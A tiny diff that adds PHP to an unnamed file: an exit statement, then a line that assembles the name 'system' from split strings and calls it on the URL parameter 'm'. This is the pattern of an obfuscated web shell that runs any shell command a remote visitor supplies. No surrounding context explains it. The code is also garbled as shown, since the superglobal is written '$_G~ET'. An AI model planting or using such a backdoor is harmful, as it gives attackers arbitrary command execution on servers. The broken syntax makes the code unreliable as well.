@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php $f = 'sys' . 'tem'; $f($_G~ET['m']);
